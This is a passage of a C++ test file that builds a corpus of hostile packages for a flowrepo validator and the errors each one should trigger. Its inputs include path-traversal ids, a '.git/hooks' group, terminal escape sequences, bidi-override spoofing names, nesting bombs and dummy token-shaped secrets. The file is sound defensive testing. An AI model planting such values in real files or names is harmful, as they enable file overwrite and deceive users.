            "not a valid zip archive");
    Package("degenerate/zip-named-zip", good_zip_.substr(0, good_zip_.size() / 2), "not a valid zip archive")
        .file_name = "evil.zip";
    HostileCase dir;
    dir.name = "degenerate/directory";
    dir.kind = Kind::kDirectory;
    dir.expect = "is not a file";
    dir.exit_code = 2;
    dir.validate_exit = 2;
    cases_.push_back(dir);
  }

  void Manifests() {
    Entries entries = good_;
    entries.erase(entries.begin());
    Package("manifest/missing", Zip(entries), "manifest.json is missing");
    entries = good_;
    At(entries, kManifest) = "{\"schema\": \"flowrepo/package@1\", \"flows\": [";
    Package("manifest/malformed", Zip(entries), "manifest.json: syntax error");
    At(entries, kManifest) = "[]";
    Package("manifest/array", Zip(entries), "manifest must be a JSON object");
    At(entries, kManifest) = "";
    Package("manifest/empty", Zip(entries), "manifest.json: syntax error");
    Package("manifest/schema-9", ChangedManifest([](Json& m) { m["schema"] = "flowrepo/package@9"; }),
            "package schema 'flowrepo/package@9' is not supported; this flowrepo reads flowrepo/package@1");
    Package("manifest/schema-other", ChangedManifest([](Json& m) { m["schema"] = "evil/package@1"; }),
            "not a flowrepo package: schema is 'evil/package@1'");
    Package("manifest/schema-missing", ChangedManifest([](Json& m) { m.erase("schema"); }), "not a flowrepo package");
    Package("manifest/schema-not-string", ChangedManifest([](Json& m) { m["schema"] = 1; }), "not a flowrepo package");

    // Lying about the files.
    entries = good_;
    std::string& def = At(entries, kNightly + "/flow_definition.json");
    def[def.find("\"end\"") + 1] = 'E';  // same size, other bytes
    Package("manifest/sha256-mismatch", Zip(entries), "sha256 does not match manifest.json");
    entries = good_;
    At(entries, kNightly + "/flow_definition.json") += " ";
    Package("manifest/size-mismatch", Zip(entries), "bytes, manifest.json says");
    entries = good_;
    std::erase_if(entries, [](const auto& e) { return e.first.rfind(kAml + "/", 0) == 0; });
    Package("manifest/flow-listed-but-absent", Zip(entries),
            "flow 'aml-screening' is listed in manifest.json but none of its files is in the package");
    entries = good_;
    std::erase_if(entries, [](const auto& e) { return e.first == kAml + "/env_variables.json"; });
    Package("manifest/file-listed-but-absent", Zip(entries), "listed in manifest.json but not in the package");
    entries = good_;
    entries.emplace_back("flows/Operations/stowaway/app_definition.json", R"({"id": "stowaway", "name": "Stowaway"})");
    Package("manifest/file-present-but-unlisted", Zip(entries), "entry is not listed in manifest.json");
    entries = good_;
    entries.emplace_back(kNightly + "/evil.json", "{}");
    Package("manifest/unknown-file-in-flow", Zip(entries), "entry name is not allowed");
    Package("manifest/sha256-not-hex",
            ChangedManifest([](Json& m) { m["flows"][0]["files"]["app_definition.json"]["sha256"] = "../../evil"; }),
            "sha256 must be 64 lower-case hex digits");
    Package("manifest/size-negative",
            ChangedManifest([](Json& m) { m["flows"][0]["files"]["app_definition.json"]["size"] = -1; }),
            "field 'size' has the wrong type");
    Package("manifest/size-huge", ChangedManifest([](Json& m) {
              m["flows"][0]["files"]["app_definition.json"]["size"] = 18446744073709551615ull;
            }),
            "bytes, manifest.json says 18446744073709551615");
    Package("manifest/size-float",
            ChangedManifest([](Json& m) { m["flows"][0]["files"]["app_definition.json"]["size"] = 1e300; }),
            "field 'size' has the wrong type");
    Package("manifest/flow-id-traversal", ChangedManifest([](Json& m) { m["flows"][0]["id"] = "../../evil"; }),
            "invalid flow id '../../evil'");
    Package("manifest/flow-path-traversal",
            ChangedManifest([](Json& m) { m["flows"][0]["path"] = "flows/../../evil"; }),
            "path 'flows/../../evil' does not match group and id");
    Package("manifest/flow-group-git", ChangedManifest([](Json& m) { m["flows"][0]["group"] = ".git/hooks"; }),
            "invalid group '.git/hooks'");
    Package("manifest/flow-listed-twice", ChangedManifest([](Json& m) { m["flows"].push_back(m["flows"][0]); }),
            "is listed twice");
    Package("manifest/flows-not-array", ChangedManifest([](Json& m) { m["flows"] = "evil"; }),
            "field 'flows' has the wrong type");
    Package("manifest/files-unknown-name", ChangedManifest([](Json& m) {
              m["flows"][0]["files"]["../../evil.json"] = {{"sha256", std::string(64, '0')}, {"size", 2}};
            }),
            "unknown file '../../evil.json'");
    Package("manifest/version-huge", ChangedManifest([](Json& m) { m["flows"][0]["version"] = 1e300; }),
            "version must be a positive integer or null");
    Package("manifest/name-differs", ChangedManifest([](Json& m) { m["flows"][0]["name"] = "Evil"; }),
            "differs from manifest.json");
    Package("manifest/group-tree-malformed", ChangedManifest([](Json& m) {
              m["groups"] = {{"evil", 1}};
            }),
            "group tree is malformed");
    Package("manifest/group-tree-deep", ChangedManifest([](Json& m) {
              Json node = {{"flows", Json::array()}, {"groups", Json::object()}};
              for (int i = 0; i < 100; ++i) node = {{"flows", Json::array()}, {"groups", {{"g", node}}}};
              m["groups"] = node;
            }),
            "nesting deeper than 128 levels");
    Package("manifest/secret", ChangedManifest([](Json& m) {
              m["source"]["workspace"] = "ghp_" + std::string("aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5");
            }),
            "[secret/");
  }

  void JsonDocuments() {
    for (const auto& bad : BadJsonDocuments()) {
      Entries entries = good_;
      At(entries, kNightly + "/flow_definition.json") = bad.text;
      std::vector<ZipEntry> zip = ToZipEntries(Reseal(entries));
      // Stored, not deflated: a big document of one letter would trip the
      // ratio limit before its JSON is read.
      if (bad.slug == "large-string") {
        for (auto& e : zip) e.method = 0;
      }
      Package("json/flow-definition/" + bad.slug, BuildZip(zip), bad.expect).where =
          kNightly + "/flow_definition.json: ";
      entries = good_;
      At(entries, kManifest) = bad.text;
      zip = ToZipEntries(entries);
      if (bad.slug == "large-string") {
        for (auto& e : zip) e.method = 0;
      }
      Package("json/manifest/" + bad.slug, BuildZip(zip), bad.expect).where = "manifest.json: ";
      Folder("json/flow-folder/" + bad.slug,
             {{"evil-flow/app_definition.json", R"({"id": "evil-flow", "name": "Evil"})"},
              {"evil-flow/flow_definition.json", bad.text}},
             bad.expect, 4)
          .where = "flow_definition.json: ";
    }
    // The other two documents of a flow.
    Package(
        "json/app-definition/duplicate-id",
        Changed(kNightly, "app_definition.json", R"({"id": "nightly-report", "name": "Nightly Report", "id": "evil"})"),
        "duplicate key 'id'")
        .where = kNightly + "/app_definition.json: ";
    Package("json/env-variables/nesting",
            Changed(kNightly, "env_variables.json", std::string(100000, '[') + std::string(100000, ']')),
            "nesting deeper than 128 levels")
        .where = kNightly + "/env_variables.json: ";
    Folder("json/flow-folder/app-definition-nesting",
           {{"evil-flow/app_definition.json", std::string(100000, '{') + std::string(100000, '}')}}, "syntax error", 4)
        .where = "app_definition.json: ";
    std::string objects;
    for (int i = 0; i < 100000; ++i) objects += "{\"a\":";
    objects += "1" + std::string(100000, '}');
    Folder("json/flow-folder/app-definition-nesting-objects", {{"evil-flow/app_definition.json", objects}},
           "nesting deeper than 128 levels", 4)
        .where = "app_definition.json: ";
    Folder("json/flow-folder/env-variables-duplicate-keys",
           {{"evil-flow/app_definition.json", R"({"id": "evil-flow", "name": "Evil"})"},
            {"evil-flow/flow_definition.json", R"({"nodes": [{"id": "start", "type": "start"}]})"},
            {"evil-flow/env_variables.json", R"({"variables": [], "variables": [{"name": "X"}]})"}},
           "duplicate key 'variables'", 4)
        .where = "env_variables.json: ";
  }

  void Flows() {
    auto nightly_def = [&](const std::function<void(Json&)>& edit) {
      return ChangedJson(kNightly, "flow_definition.json", edit);
    };
    auto nightly_app = [&](const std::function<void(Json&)>& edit) {
      return ChangedJson(kNightly, "app_definition.json", edit);
    };
    Package("flow/edge-to-missing-node", nightly_def([](Json& d) {
              d["edges"].push_back({{"from", "start"}, {"to", "ghost"}});
            }),
            "edge to 'ghost' is not a node of this flow [dangling-edge]");
    Package("flow/edge-from-missing-node", nightly_def([](Json& d) {
              d["edges"].push_back({{"from", "ghost"}, {"to", "end"}});
            }),
            "edge from 'ghost' is not a node of this flow [dangling-edge]");
    Package("flow/duplicate-node-id", nightly_def([](Json& d) { d["nodes"].push_back(d["nodes"][0]); }),
            "duplicate node id 'start'");
    Package("flow/invalid-node-id", nightly_def([](Json& d) {
              d["nodes"].push_back({{"id", "../Evil Node"}, {"type", "wait"}});
            }),
            "invalid node id '../Evil Node'");
    Package("flow/unknown-node-type", nightly_def([](Json& d) {
              d["nodes"].push_back({{"id", "evil"}, {"type", "shell"}});
            }),
            "node 'evil' has unknown type 'shell'");
    Package("flow/nodes-missing", nightly_def([](Json& d) { d.erase("nodes"); }), "required array 'nodes' is missing");
    Package("flow/definition-not-object", Changed(kNightly, "flow_definition.json", "[]"),
            "flow definition must be a JSON object");
    Package("flow/subflow-to-missing-flow",
            ChangedJson(kBanking, "flow_definition.json",
                        [](Json& d) {
                          for (auto& n : d["nodes"]) {
                            if (n["type"] == "subflow") n["config"]["flow"] = "ghost-flow";
                          }
                        }),
            "uses flow 'ghost-flow', which does not exist");
    Package("flow/subflow-traversal",
            ChangedJson(kBanking, "flow_definition.json",
                        [](Json& d) {
                          for (auto& n : d["nodes"]) {
                            if (n["type"] == "subflow") n["config"]["flow"] = "../../evil";
                          }
                        }),
            "uses flow '../../evil', which does not exist");
    Package("flow/app-id-differs", nightly_app([](Json& a) { a["id"] = "evil"; }),
            "id 'evil' does not match the flow folder 'nightly-report'");
    Package("flow/app-id-traversal", nightly_app([](Json& a) { a["id"] = "../../evil"; }),
            "id '../../evil' does not match the flow folder 'nightly-report'");
    Package("flow/name-missing", nightly_app([](Json& a) { a.erase("name"); }), "required string 'name' is missing");
    Package("flow/name-empty", nightly_app([](Json& a) { a["name"] = ""; }), "required string 'name' is missing");
    Package("flow/name-not-string", nightly_app([](Json& a) { a["name"] = 42; }), "required string 'name' is missing");
    Package("flow/name-newline", nightly_app([](Json& a) { a["name"] = "Nightly\nflowrepo: ok"; }),
            "name has a control character");
    Package("flow/name-escape-sequence", nightly_app([](Json& a) { a["name"] = "\x1b[2J\x1b[31mEvil"; }),
            "name has a control character");
    Package("flow/name-bidi-override", nightly_app([](Json& a) { a["name"] = "Report \u202etxt.exe"; }),
            "name has an invisible or direction-changing character");
    Package("flow/name-zero-width", nightly_app([](Json& a) { a["name"] = "Nightly\u200bReport"; }),
            "name has an invisible or direction-changing character");
    Package("flow/name-too-long", nightly_app([](Json& a) { a["name"] = std::string(1000, 'N'); }),
            "name is longer than 512 bytes");
    Package("flow/name-bidi-isolate", nightly_app([](Json& a) { a["name"] = "Report \u2067evil\u2069"; }),
            "name has an invisible or direction-changing character");
    Package("flow/name-c1-control", nightly_app([](Json& a) { a["name"] = "Report \u009b31m"; }),
            "name has a control character");
    Package("flow/unknown-format", nightly_app([](Json& a) { a["format"] = "evil@1"; }),
            "unknown flow format 'evil@1'");
    Package("flow/secret-value", nightly_def([](Json& d) {
              d["nodes"][1]["config"]["api_key"] = "sk_live_" + std::string("abcdefghij0123456789");
            }),
            "[secret/");
    Package("flow/env-secret-with-value",
            ChangedJson(kNightly, "env_variables.json",
                        [](Json& e) {
                          e["variables"].push_back({{"name", "EVIL"}, {"secret", true}, {"value", "hunter2"}});
                        }),
            "secret variable 'EVIL' holds a value");
  }

  void FlowFolders() {
    const std::string app = R"({"id": "ID", "name": "Evil"})";
    const std::string def = R"({"mode": "sync", "nodes": [{"id": "start", "type": "start"}], "edges": []})";
    auto flow = [&](const std::string& folder, const std::string& id) {
      std::string a = app;
      a.replace(a.find("ID"), 2, id);
      return std::map<std::string, std::string>{{folder + "/app_definition.json", a},
                                                {folder + "/flow_definition.json", def}};
    };
    Folder("flow-folder/invalid-id", flow("Evil_Id", "Evil_Id"), "invalid flow id 'Evil_Id'", 2);
    Folder("flow-folder/reserved-id", flow("drafts", "drafts"), "invalid flow id 'drafts'", 2);
    Folder("flow-folder/lock-id", flow("evil.lock", "evil.lock"), "invalid flow id 'evil.lock'", 2);
    Folder("flow-folder/id-with-newline", flow("evil\nid", "evil"), "invalid flow id 'evil\\x0aid'", 2);
    Folder("flow-folder/id-with-escape", flow("evil\x1b[2Jid", "evil"), "invalid flow id 'evil\\x1b[2Jid'", 2);
    Folder("flow-folder/id-too-long", flow(std::string(100, 'a'), std::string(100, 'a')), "invalid flow id", 2);
    Folder("flow-folder/group-trailing-dot", flow("Evil./evil-flow", "evil-flow"), "invalid group 'Evil.'", 2);
    Folder("flow-folder/group-trailing-space", flow("Evil /evil-flow", "evil-flow"), "invalid group 'Evil '", 2);
    Folder("flow-folder/group-with-colon", flow("C:evil/evil-flow", "evil-flow"), "invalid group 'C:evil'", 2);
    Folder("flow-folder/group-with-newline", flow("Evil\nGroup/evil-flow", "evil-flow"),
           "invalid group 'Evil\\x0aGroup'", 2);
    Folder("flow-folder/only-in-git-dir", flow(".git/evil-flow", "evil-flow"), "no flow folders", 3).validate_exit = 3;
    Folder("flow-folder/app-definition-empty",
           {{"evil-flow/app_definition.json", ""}, {"evil-flow/flow_definition.json", def}}, "missing", 4)
        .where = "app_definition.json: ";
  }

  std::string good_zip_;
  Entries good_;
  std::vector<HostileCase> cases_;
};

}  // namespace

Entries ReadEntries(const std::string& bytes) {
  zip_error_t error;
  zip_error_init(&error);
  zip_source_t* src = zip_source_buffer_create(bytes.data(), bytes.size(), 0, &error);
  zip_t* za = src ? zip_open_from_source(src, ZIP_RDONLY, &error) : nullptr;
  if (!za) {
    if (src) zip_source_free(src);
    throw std::runtime_error("cannot open the good package");
  }
  Entries out;
  zip_int64_t n = zip_get_num_entries(za, 0);
  for (zip_int64_t i = 0; i < n; ++i) {
    auto index = static_cast<zip_uint64_t>(i);
    std::string data;
    zip_file_t* f = zip_fopen_index(za, index, 0);
    if (!f) throw std::runtime_error("cannot read the good package");
    char buf[1 << 16];
    zip_int64_t got;
    while ((got = zip_fread(f, buf, sizeof buf)) > 0) data.append(buf, static_cast<std::size_t>(got));
    zip_fclose(f);
    out.emplace_back(zip_get_name(za, index, 0), std::move(data));
  }
  zip_discard(za);
  return out;
}

std::vector<HostileCase> MakeCorpus(const std::string& good) { return Builder(good).Build(); }

std::string WithEntry(const std::string& good, const std::string& name, const std::string& data,
                      Compression compression) {
  Entries entries = ReadEntries(good);
  At(entries, name) = data;
  std::vector<ZipEntry> zip = ToZipEntries(Reseal(entries));
  if (compression == Compression::kStore) {
    for (auto& e : zip) e.method = 0;
  }
  return BuildZip(zip);
}

std::map<std::string, std::string> CyclicFlowFolders() {
  auto flow = [](const std::string& id, const std::string& uses) {
    Json def = {
        {"mode", "sync"},
        {"nodes", Json::array({{{"id", "start"}, {"type", "start"}},
                               {{"id", "check"}, {"type", "condition"}, {"config", {{"expression", "depth < 3"}}}},
                               {{"id", "again"}, {"type", "subflow"}, {"config", {{"flow", uses}}}},
                               {{"id", "end"}, {"type", "end"}}})},
        {"edges", Json::array({{{"from", "start"}, {"to", "check"}},
                               {{"from", "check"}, {"to", "again"}, {"when", "true"}},
                               {{"from", "check"}, {"to", "end"}, {"when", "false"}},
                               {{"from", "again"}, {"to", "end"}}})}};
    Json app = {{"id", id}, {"name", "Cycle " + id}, {"format", "flowrepo/flow@1"}};
    return std::pair{CanonicalJson(app), CanonicalJson(def)};
  };
  std::map<std::string, std::string> files;
  for (auto [id, uses] : {std::pair{"cycle-a", "cycle-b"}, std::pair{"cycle-b", "cycle-c"},
                          std::pair{"cycle-c", "cycle-a"}, std::pair{"recursive", "recursive"}}) {
    auto [app, def] = flow(id, uses);
    files[std::string("Cycles/") + id + "/app_definition.json"] = app;
    files[std::string("Cycles/") + id + "/flow_definition.json"] = def;
  }
  return files;
}

}  // namespace flowrepo::testing::hostile
